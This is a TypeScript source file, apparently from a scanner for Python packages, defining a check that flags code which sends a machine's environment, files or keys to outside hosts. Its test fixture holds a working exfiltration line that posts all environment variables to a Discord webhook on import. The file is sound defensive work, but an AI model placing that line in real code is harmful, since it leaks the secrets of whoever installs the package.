import type { CodeAnalysis, CodeEffect } from "../../analysis/code/code-analysis.ts";
import { type Severity, severities } from "../../model/finding.ts";
import { references } from "../references.ts";
import { capabilityInWords } from "./capability-words.ts";
import { asUsed, byTrigger, type CodeCheck, codeCheck } from "./code-check.ts";
import { collects, isCallersHook, isChatHook, isLocal } from "./known-hosts.ts";

export const sendsDataOut: CodeCheck = codeCheck({
  id: "code/sends-data-out",
  title: "Code sends data of the machine somewhere else",
  severity: "high",
  confidence: "likely",
  runsAt: "import",
  explanation: `
    What leaves here is the machine's own: its environment with the secrets that builds keep in it, files of the person,
    names of host and user, or keys that are handed to a function. Where the address is a web hook of a chat, a catcher of
    requests or a tunnel, nobody answers for what happens to it. pip, uv and Python run such code with everything that the
    person may read.`,
  remedy:
    "Do not install it. If it ran already, change every password and token that the environment or the files held.",
  references: [references.backEnds],
  fixtures: {
    reported: {
      filename: "chatty-1.0-py3-none-any.whl",
      files: {
        "chatty.py":
          'import os\nimport requests\n\nrequests.post("https://discord.com/api/webhooks/1/a", json=dict(os.environ))\n',
      },
    },
    clean: {
      filename: "chatty-1.0-py3-none-any.whl",
      files: {
        "chatty.py":
          'import subprocess\nimport os\n\n\ndef run():\n    return subprocess.run(["git", "status"], env=dict(os.environ))\n',
      },
    },
  },

  rate(effect, code) {
    const { capability, trigger, names } = effect;
    const sent = SENT[capability];
    if (sent === undefined && (!capability.startsWith("network.") || capability === "network.socket")) return null;
    // Of the same call more is known.
    if (sent === undefined && callsThatSend(code).has(placeOf(effect))) return null;
    const isAnonymous = names.hosts.some(collects) || names.urls.some(isChatHook);
    // Whoever calls it says whose channel it is.
    if (sent === undefined && trigger === "deferred" && names.urls.some(isCallersHook)) return "info";
    if (isAnonymous && trigger !== "test") return "high";
    if (sent === undefined) return null;
    const isNamed = names.hosts.length > 0 && !names.hosts.every(isLocal);
    if (capability === "network.exfil-parameter" && !isNamed) return "info";
    return byTrigger(trigger, { ...USUAL, deferred: isNamed ? sent : "info" });
  },
  say(effect) {
    const [where] = [...effect.names.urls, ...effect.names.hosts];
    const what = SENT[effect.capability] === undefined ? "sends something" : capabilityInWords(effect.capability);
    return `${effect.callee} ${what} to ${where ?? "another machine"}.`;
  },
});

/** How bad it is that a call, or whatever else stands at the place of an effect, sends data; null where it does not. */
export function sentAt(effect: CodeEffect, code: CodeAnalysis): Severity | null {
  const rated = (callsThatSend(code).get(placeOf(effect)) ?? []).map((one) => sendsDataOut.rate(asUsed(one), code));
  return severities.find((severity) => rated.includes(severity)) ?? null;
}

/** Effects that send something of the machine, by their places. */
function callsThatSend(code: CodeAnalysis): ReadonlyMap<string, readonly CodeEffect[]> {
  const known = found.get(code);
  if (known !== undefined) return known;
  const places = Map.groupBy(
    code.effects.filter(({ capability }) => SENT[capability] !== undefined),
    placeOf,
  );
  found.set(code, places);
  return places;
}

const found = new WeakMap<CodeAnalysis, ReadonlyMap<string, readonly CodeEffect[]>>();

function placeOf({ path, line, column }: CodeEffect): string {
  return `${line}:${column}:${path}`;
}

const USUAL = { unasked: "high", imported: "high", script: "info", deferred: "info", test: "info" } as const;

/** How bad it is that a function sends it to a host that it names itself. */
const SENT: Readonly<Record<string, Severity | undefined>> = {
  "network.exfil": "medium",
  "network.exfil-private": "high",
  "network.exfil-fingerprint": "low",
  "network.exfil-parameter": "high",
};
